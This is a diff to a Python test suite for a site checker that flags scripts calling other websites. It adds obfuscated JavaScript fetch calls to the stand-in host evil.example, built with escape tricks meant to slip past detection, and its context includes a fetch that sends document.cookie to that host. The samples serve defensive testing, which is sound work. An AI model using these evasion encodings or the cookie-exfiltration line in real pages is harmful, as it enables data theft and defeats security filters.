@@ -136,6 +136,11 @@ FILES = {
         "import('https://evil.example/x.js')": "脚本里有别的网站的网址",
         'import x from "//evil.example/x.js"': "脚本里有别的网站的网址",
         r"fetch('\x68ttps://evil.example/')": "脚本里有别的网站的网址",
+        r"fetch('\/\u002fevil.example/')": "脚本里有别的网站的网址",
+        r"fetch('\https://evil.example/')": "脚本里有别的网站的网址",
+        r"fetch('\150ttps://evil.example/')": "脚本里有别的网站的网址",
+        "fetch('ht\\\ntps://evil.example/')": "脚本里有别的网站的网址",
+        r"fetch(' ht\ttps://evil.example/')": "脚本里有别的网站的网址",
         r"fetch('\/\u{2F}evil.example/')": "脚本里有别的网站的网址",
         'a({"a": %s"https://evil.example/"})' % ("[" * 100_000): "脚本里有别的网站的网址",
         "fetch(`https://evil.example/${document.cookie}`)": "脚本里有别的网站的网址",
@@ -230,8 +235,9 @@ def test_what_pages_are_made_of_passes(site: Site, tmp_path: Path, part: str) ->
 def test_data_may_name_other_sites(site: Site, tmp_path: Path) -> None:
     files = {
         "a.js": 'searchPart({"a": ["https://example.org/"]});\n',
+        "b.js": '"use strict" // "a"\n// b',
         "a.css": "/* it's 'https://example.org/' */p{content:'//'}/* url(//example.org) */",
-        "a.xml": "<?xml version='1.0'?><!-- 甲 --><a b='https://example.org/'/>",
+        "a.xml": "<?xml version='1.0'?><!-- 甲 --><?a?><a b='https://example.org/'/>",
     }
     assert faults(site, tmp_path, **files) == []
 
